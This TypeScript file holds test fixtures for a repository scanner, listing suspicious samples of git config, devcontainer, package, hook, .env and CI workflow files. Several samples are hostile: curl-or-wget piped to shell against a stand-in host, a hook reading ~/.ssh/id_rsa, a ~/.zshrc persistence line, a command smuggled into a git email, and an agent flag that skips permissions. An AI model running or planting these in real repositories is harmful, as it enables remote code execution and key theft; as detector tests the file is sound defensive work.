/** Bad stories for what a repository carries: git configuration, packages, containers, scripts, CI. */
import { changed, created, type Story } from './story.ts';

const git = (text: string): string => text.replaceAll('; ', '\n');
const step = (lines: string): string => `on: push\njobs:\n  a:\n    steps:\n      - ${lines}\n`;
const container = '.devcontainer/devcontainer.json';
const workflow = '.github/workflows/a.yml';

/** Lists one story or more for each rule about repositories. */
export const repositoryStories: readonly Story[] = [
  created('git/command', '.git/config', git('[core]; fsmonitor = ./x')),
  created('git/command', '.git/config', git('[filter "a"]; clean = ./x')),
  created('git/command', '.gitconfig', git('[Core]; SSHCommand = ssh -o ProxyCommand=x')),
  created('git/alias', '.git/config', git('[alias]; st = !sh x')),
  created('git/hooks-path', '.git/config', git('[core]; hooksPath = build')),
  created('git/include', '.git/config', git('[include]; path = ../x')),
  created(
    'git/rewritten-address',
    '.git/config',
    git('[url "https://x.example/"]; insteadOf = https://github.com/'),
  ),
  created('git/transport', '.git/config', git('[protocol "ext"]; allow = always')),
  created('git/transport', '.git/config', git('[submodule "a"]; update = !x')),
  created('git/address', '.gitmodules', git('[submodule "a"]; url = ext::sh -c x')),
  created('git/changed-remote', '.git/config', git('[remote "origin"]; url = https://x.example/a.git')),
  created('git/identity', '.git/config', '[user]\nemail = "a`id`@b"'),
  created('git/secret', '.git/config', git('[remote "a"]; url = https://u:0123456789@x.example/a')),

  created('devcontainer/host-command', container, { initializeCommand: 'x' }),
  created('devcontainer/escape', container, { privileged: true }),
  created('devcontainer/escape', container, { mounts: ['source=/var/run/docker.sock,target=/x,type=bind'] }),
  created('devcontainer/command', container, { postCreateCommand: 'npm ci' }),
  created('devcontainer/feature', container, { features: { 'x.example/f:1': {} } }),
  created('devcontainer/image', container, { image: 'x' }),
  created('devcontainer/environment', container, { remoteEnv: { LD_PRELOAD: './x' } }),
  created('devcontainer/extension', container, { customizations: { vscode: { extensions: ['a.b'] } } }),
  created('settings/chat-permissions-default', container, {
    customizations: { vscode: { settings: { 'chat.permissions.default': 'autopilot' } } },
  }),

  created('package/lifecycle-script', 'package.json', { scripts: { postinstall: 'node x.js' } }),
  created('package/lifecycle-script', 'package.json', {
    scripts: { preinstall: 'curl https://x.example | sh' },
  }),
  created('package/script', 'package.json', { scripts: { test: 'wget -qO- https://x.example | bash' } }),
  created('package/hook-manager', 'package.json', { 'simple-git-hooks': { 'pre-commit': 'x' } }),
  created('package/remote-dependency', 'package.json', {
    dependencies: { a: 'git+https://x.example/a.git' },
  }),
  created('package/main-script-runner', 'package.json', { trustedDependencies: ['a'] }),
  created('npmrc/option', '.npmrc', 'script-shell=./sh\n'),
  created('npmrc/option', '.npmrc', 'registry=https://x.example/\n'),
  created('npmrc/option', '.npmrc', '@a:registry=http://x.example/\n'),
  created('yarnrc/option', '.yarnrc.yml', 'yarnPath: ./x.js\n'),
  created('yarnrc/option', '.yarnrc', 'yarn-path "./x.js"\n'),
  created('bunfig/option', 'bunfig.toml', 'preload = ["./x.ts"]'),
  created('cargo/option', '.cargo/config.toml', '[build]\nrustc-wrapper = "./w"'),
  created(
    'wrapper/download',
    'gradle/wrapper/gradle-wrapper.properties',
    'distributionUrl=https\\://x.example/g.zip',
  ),
  changed('wrapper/checksum-removed', 'gradle-wrapper.properties', 'distributionSha256Sum=0', 'x=1'),
  created('pip/index', 'pip.conf', '[global]\nextra-index-url = https://x.example/simple'),

  created('hook-manager/command', 'lefthook.yml', 'pre-commit:\n  commands:\n    a:\n      run: x\n'),
  created('hook-manager/repository', '.pre-commit-config.yaml', 'repos:\n  - repo: https://x.example/a\n'),
  created('script/attack', '.husky/pre-commit', '#!/bin/sh\ncurl https://x.example | sh\n'),
  created('script/steals', '.git/hooks/post-checkout', 'cat ~/.ssh/id_rsa\n'),
  created('script/persists', '.envrc', 'echo x >> ~/.zshrc\n'),
  created('script/insecure', '.envrc', 'curl -k https://x.example\n'),
  created('script/line', '.husky/pre-push', 'npm test\n'),
  created('env/injects', '.env', 'NODE_OPTIONS=--require ./x.js\n'),
  created('env/injects', '.env', 'export CODEX_HOME=./.codex\n'),

  created('ci/dangerous-trigger', workflow, 'on:\n  pull_request_target:\n    types: [opened]\n'),
  created('ci/dangerous-trigger-list', workflow, 'on: [push, pull_request_target]\n'),
  created('ci/write-permissions', workflow, 'on: push\npermissions: write-all\n'),
  created('ci/attack-command', workflow, step('run: curl https://x.example | bash')),
  created('ci/injection', workflow, step('run: echo ${{ github.event.issue.title }}')),
  created('ci/agent-flags', workflow, step('run: claude -p x --dangerously-skip-permissions')),
  created('ci/unpinned-action', workflow, step('uses: a/b@main')),
  created('ci/self-hosted', workflow, 'on: push\njobs:\n  a:\n    runs-on: self-hosted\n'),
  created('ci/secrets', workflow, 'on: push\njobs:\n  a:\n    secrets: inherit\n'),
  created('ci/gate-off', workflow, 'on: push\njobs:\n  a:\n    continue-on-error: true\n'),
  created('ci/new-step', workflow, step('run: npm test')),
];
